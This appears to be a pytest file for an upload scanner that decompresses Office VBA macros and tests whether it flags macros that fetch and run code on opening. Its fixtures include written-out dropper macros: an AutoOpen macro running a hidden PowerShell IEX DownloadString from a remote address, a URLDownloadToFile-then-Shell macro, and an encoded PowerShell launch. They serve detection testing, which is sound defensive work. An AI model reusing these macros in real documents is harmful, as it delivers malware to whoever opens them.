"""The source of a document's VBA macros (``detectors/uploads/vba.py``), decompressed and judged.

Found by probing: a .docm whose ``AutoOpen`` hands PowerShell a web client's download to run (the shape
of the macro droppers in public samples) was a review at 0.7, like any document with macros: the
modules' source is compressed, so what they do was never read."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aup.detectors.uploads import vba
from aup.detectors.uploads.verdict import Verdict
from tests.eval import files as F
from tests.unit.uploads.test_containers_and_content import judge, rules_of

# MS-OVBA 3.2.2, its example of normal compression: literals and copy tokens
SPEC_COMPRESSED = bytes.fromhex(
    "012FB000236161616263646582660070616768696A013808616B6C00306D6E6F700671027004107273747576107778797A003C"
)
SPEC_PLAIN = b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"

DROPPER = "\n".join(
    [
        'Attribute VB_Name = "ThisDocument"',
        "Sub AutoOpen()",
        "  Dim s As String",
        '  s = "powershell -nop -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString('
        + "'http://198.51.100.9/a')"
        + '"""',
        "  Shell s, vbHide",
        "End Sub",
    ]
)
RATES = """Attribute VB_Name = "Module1"
Sub Workbook_Open()
  Dim r As Object
  Set r = CreateObject("MSXML2.XMLHTTP")
  r.Open "GET", "https://api.example.com/rates", False
  r.Send
  Sheet1.Range("A1").Value = r.responseText
  Application.Run "RefreshCharts"
End Sub
"""


def test_the_specifications_example_decompresses() -> None:
    assert vba.decompress(SPEC_COMPRESSED, 0, 1 << 20) == SPEC_PLAIN


def test_a_long_module_over_several_chunks_is_read_whole() -> None:
    source = ('Attribute VB_Name = "Module1"\r\n' + "' a comment line of the module\r\n" * 400).encode()
    assert len(source) > 3 * 4096
    assert vba.sources(b"junk" * 10 + F.ovba_compressed(source) + b"more") == [source.decode()]


def test_a_chunk_stored_uncompressed_is_taken_as_it_is() -> None:
    raw = bytes(range(256)) * 16
    assert vba.decompress(b"\x01" + (0x3FFF).to_bytes(2, "little") + raw, 0, 1 << 20) == raw


def test_the_limit_bounds_what_is_decompressed() -> None:
    source = ('Attribute VB_Name = "M"\r\n' + "x" * 20_000).encode()
    assert len(vba.decompress(F.ovba_compressed(source), 0, 5000)) == 5000
    assert sum(map(len, vba.sources(F.ovba_compressed(source) * 3, limit=30_000))) <= 30_000


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=600))
def test_damaged_containers_never_raise(tail: bytes) -> None:
    data = b"\x01\x2f\xb0\x00Attribut\x00e VB_Nam" + tail
    out = vba.decompress(data, 0, 1 << 16)
    assert len(out) <= 1 << 16
    vba.sources(data)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (DROPPER, True),
        ('Sub Document_Open()\nURLDownloadToFile 0, "http://x.example/a.exe", Environ("TEMP") & "\\a.exe", 0, 0\n'
         'Shell Environ("TEMP") & "\\a.exe"\nEnd Sub', True),
        ('Private Sub Workbook_Open()\nCreateObject("WScript.Shell").Run "powershell -enc SQBFAFgA", 0\nEnd Sub',
         True),
        (RATES, False),  # a workbook refreshing its data on opening: no process started
        ('Sub Export()\nShell "notepad.exe " & ThisWorkbook.Path & "\\notes.txt"\nEnd Sub', False),  # a button's
        ('Sub AutoOpen()\nSelection.Font.Bold = True\nEnd Sub', False),
        ('Sub AutoOpen()\nShell "explorer.exe C:\\Reports"\nEnd Sub', False),  # runs, fetches nothing
    ],
)  # fmt: skip
def test_macros_are_judged_by_what_they_run_by_themselves(source: str, expected: bool) -> None:
    assert vba.downloads_on_open(source) is expected


def test_a_macro_dropper_document_is_a_launch() -> None:
    v, result, findings = judge(F.office("docx", "Enable content", macros=[DROPPER]), "invoice.docm")
    assert v is Verdict.threat and rules_of(findings) == {"I3-script-in-document"}
    assert findings[0].confidence == 0.9
    assert any(r.active[vba.VBA_DOWNLOAD_ON_OPEN] for r in result.reports)


def test_a_legacy_macro_document_is_read_too() -> None:
    v, _, findings = judge(F.vba_project([RATES, DROPPER]), "invoice.doc")
    assert v is Verdict.threat and findings[0].confidence == 0.9


def test_an_honest_macro_workbook_stays_a_review() -> None:
    v, result, findings = judge(F.office("xlsx", "Rates", macros=[RATES]), "rates.xlsm")
    assert v is Verdict.review and findings[0].confidence == 0.7
    assert not any(r.active[vba.VBA_DOWNLOAD_ON_OPEN] for r in result.reports)
